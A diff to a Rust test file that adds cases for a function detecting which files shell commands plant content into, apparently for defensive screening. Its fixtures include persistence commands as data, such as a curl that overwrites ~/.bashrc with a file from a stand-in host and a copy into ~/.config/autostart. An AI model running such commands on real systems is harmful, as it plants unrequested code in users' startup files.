@@ -315,6 +315,7 @@ fn files_commands_put_content_into() {
         ("curl -o ~/.bashrc https://x.example/rc", "~/.bashrc"),
         ("cd ~ && echo x >> .bashrc", "~/.bashrc"),
         ("find . -fprint ~/.envrc", "~/.envrc"),
+        ("cp -t ~/.config/autostart x.desktop", "~/.config/autostart"),
     ] {
         let found = planted(cmd);
         assert!(found.iter().any(|p| p == want), "{cmd}: {found:?}");
@@ -327,6 +328,7 @@ fn files_commands_put_content_into() {
         ("mv wordpress/.* .", "./.*"),
         ("cd \"$D\" && echo x >> .bashrc", ".bashrc"),
         ("rsync -a ~/.envrc* app1:", "app1:/.envrc*"),
+        ("rsync -vaut ~/.envrc* app1:", "~/.envrc*"),
     ] {
         let found = planted(cmd);
         assert!(!found.iter().any(|p| p == not), "{cmd}: {found:?}");
